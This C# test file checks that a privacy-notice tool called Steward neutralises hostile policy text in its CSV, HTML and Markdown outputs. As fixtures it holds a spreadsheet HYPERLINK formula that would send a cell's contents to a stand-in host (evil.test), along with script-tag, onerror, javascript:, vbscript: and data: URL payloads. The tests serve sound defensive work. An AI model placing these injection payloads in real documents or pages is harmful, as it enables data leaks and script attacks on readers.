using Steward.Notices;
using Steward.Security;
using Steward.Tests.Infrastructure;
using Steward.Tests.Policy;

namespace Steward.Tests.Notices;

/// <summary>Policy texts are written by people and copied from elsewhere: no output may let them attack the reader.</summary>
public sealed class HostileTextTests
{
    private const string Formula = "=HYPERLINK(\"https://evil.test/?\"&A1,\"Click\")";

    private static string PolicyWithFormulas() => PolicyFixture.Write(PolicyFixture.Minimal
        .Swap("name: { en: Running your account, zh-CN: 管理您的帐户 }", $"name: {{ en: '{Formula}', zh-CN: '{Formula}' }}")
        .Swap("description: { en: We use your name and email to run your account., zh-CN: 我们使用您的姓名和电子邮件地址管理您的帐户。 }",
              "description: { en: '@SUM(1+1)', zh-CN: '-2+3' }")
        .Swap("description: { en: We email you news you asked for., zh-CN: 我们向您发送您订阅的新闻。 }",
              "description: { en: \"\\tTab first\", zh-CN: \"\\r+carriage return\" }"));

    /// <summary>The cells of a CSV line, unquoted (the test rows have no line breaks inside cells).</summary>
    private static List<string> Cells(string line)
    {
        var cells = new List<string>();
        var cell = new System.Text.StringBuilder();
        var quoted = false;
        for (var i = 0; i < line.Length; i++)
        {
            var c = line[i];
            if (quoted && c == '"' && i + 1 < line.Length && line[i + 1] == '"') { cell.Append('"'); i++; }
            else if (c == '"') quoted = !quoted;
            else if (c == ',' && !quoted) { cells.Add(cell.ToString()); cell.Clear(); }
            else cell.Append(c);
        }
        cells.Add(cell.ToString());
        return cells;
    }

    private static void AssertNoFormulas(string csv)
    {
        var cells = csv.TrimStart('\uFEFF').Split("\r\n", StringSplitOptions.RemoveEmptyEntries).SelectMany(Cells).ToList();
        Assert.Contains("'" + Formula, cells);
        Assert.DoesNotContain(cells, c => c.Length > 0 && c[0] is '=' or '+' or '-' or '@' or '\t' or '\r');
    }

    [Fact]
    public async Task Csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised()
    {
        await using var app = await StewardTestApp.StartAsync();
        await app.PublishAsync(PolicyWithFormulas());
        var auditor = await app.ClientForRoleAsync(Roles.Auditor);
        foreach (var lang in new[] { "en", "zh-CN" })
            AssertNoFormulas(await auditor.GetStringAsync($"/api/v1/ropa?format=csv&lang={lang}"));

        var file = Path.Combine(Directory.CreateTempSubdirectory("steward-csv-").FullName, "ropa.csv");
        var r = await StewardCli.RunAsync(app.Database, "", "policy", "ropa", "--format", "csv", "-o", file);
        Assert.Equal(0, r.ExitCode);
        AssertNoFormulas(await File.ReadAllTextAsync(file));
    }

    private static string PolicyWithMarkup() => PolicyFixture.Write(PolicyFixture.Minimal
        .Swap("name: { en: Running your account, zh-CN: 管理您的帐户 }", "name: { en: '<script>alert(1)</script>', zh-CN: '<script>alert(2)</script>' }")
        .Swap("description: { en: We use your name and email to run your account., zh-CN: 我们使用您的姓名和电子邮件地址管理您的帐户。 }",
              "description: { en: '<img src=x onerror=\"alert(1)\">', zh-CN: '<img src=x onerror=\"alert(2)\">' }")
        .Swap("description: { en: We email you news you asked for., zh-CN: 我们向您发送您订阅的新闻。 }", "description: { en: '---', zh-CN: '***' }")
        .Swap("introduction: { en: We respect your privacy., zh-CN: 我们尊重您的隐私。 }", "introduction: { en: '# Not a heading', zh-CN: '## 不是标题' }")
        .Swap("scope: { en: This notice covers Example Ltd., zh-CN: 本声明适用于示例有限公司。 }", "scope: { en: '- not a list', zh-CN: '+ 不是列表' }")
        .Swap("description: { en: Get a copy of your data., zh-CN: 获取您的数据副本。 }",
              "description: { en: '1. not a list [a link](https://evil.test) <b>bold</b> javascript:alert(1)', zh-CN: '2) 不是列表 [链接](https://evil.test)' }"));

    [Fact]
    public async Task Policy_texts_with_markup_stay_text_on_the_notice_page_and_in_the_html_file()
    {
        await using var app = await StewardTestApp.StartAsync();
        await app.PublishAsync(PolicyWithMarkup());
        var file = Path.Combine(Directory.CreateTempSubdirectory("steward-html-").FullName, "notice.html");
        Assert.Equal(0, (await StewardCli.RunAsync(app.Database, "", "notice", "render", "--lang", "en", "--format", "html", "-o", file)).ExitCode);
        foreach (var html in new[] { await app.Client().GetStringAsync("/privacy?lang=en"), await File.ReadAllTextAsync(file) })
        {
            Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("<b>", html, StringComparison.Ordinal);
            Assert.DoesNotContain("href=\"javascript:", html, StringComparison.OrdinalIgnoreCase);
            Assert.Contains("&lt;script&gt;alert(1)&lt;/script&gt;", html, StringComparison.Ordinal);
            Assert.Contains("&lt;img src=x onerror=&quot;alert(1)&quot;&gt;", html, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task Policy_texts_cannot_format_or_structure_the_markdown_notice()
    {
        await using var app = await StewardTestApp.StartAsync();
        await app.PublishAsync(PolicyWithMarkup());
        var dir = Directory.CreateTempSubdirectory("steward-md-").FullName;
        foreach (var lang in new[] { "en", "zh-CN" })
        {
            var file = Path.Combine(dir, $"notice.{lang}.md");
            Assert.Equal(0, (await StewardCli.RunAsync(app.Database, "", "notice", "render", "--lang", lang, "--format", "md", "-o", file)).ExitCode);
            var lines = await File.ReadAllLinesAsync(file);
            // Lines the policy's texts would start if they were read as Markdown.
            Assert.DoesNotContain(lines, l => l is "---" or "***" || l.StartsWith("# Not", StringComparison.Ordinal) || l.StartsWith("## 不是", StringComparison.Ordinal)
                || l.StartsWith("- not", StringComparison.Ordinal) || l.StartsWith("+ ", StringComparison.Ordinal)
                || l.StartsWith("1. ", StringComparison.Ordinal) || l.StartsWith("2) ", StringComparison.Ordinal));
            var md = string.Join('\n', lines);
            Assert.DoesNotContain("link](https://evil.test)", md, StringComparison.Ordinal);
            Assert.DoesNotContain("链接](https://evil.test)", md, StringComparison.Ordinal);
            // Markdown passes HTML through: a tag may only appear with its < escaped.
            Assert.DoesNotMatch(@"(?<!\\)<(script|img|b)\b", md);
        }
        var en = await File.ReadAllTextAsync(Path.Combine(dir, "notice.en.md"));
        Assert.Contains("\\---", en, StringComparison.Ordinal);
        Assert.Contains("\\# Not a heading", en, StringComparison.Ordinal);
        Assert.Contains("\\- not a list", en, StringComparison.Ordinal);
        // An address in a text becomes a link whose text is the address itself: it cannot pose as something else.
        Assert.Contains("1\\. not a list \\[a link\\]([https://evil.test](https://evil.test)) \\<b\\>bold\\</b\\>", en, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_script_link_that_bypassed_validation_is_never_written_as_a_link()
    {
        string[] hostile = ["javascript:alert(1)", " JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.test/x", "vbscript:msgbox(1)"];
        var doc = new NoticeDocument("en", "Notice", [], [new NoticeSection("s", "Links",
            [new LinkList([.. hostile.Select(h => ("click me", h)), ("fine", "https://example.test/ok"), ("local", "/privacy/rights?lang=en")])])]);
        var html = await NoticeRenderers.HtmlFileAsync(doc);
        var md = NoticeRenderers.Markdown(doc);
        foreach (var output in new[] { html, md })
        {
            Assert.DoesNotContain("script:", output, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("data:text", output, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("evil.test", output, StringComparison.Ordinal);
        }
        Assert.Contains("href=\"https://example.test/ok\"", html, StringComparison.Ordinal);
        Assert.Contains("href=\"/privacy/rights?lang=en\"", html, StringComparison.Ordinal);
        Assert.Contains("- [fine](https://example.test/ok)", md, StringComparison.Ordinal);
    }
}
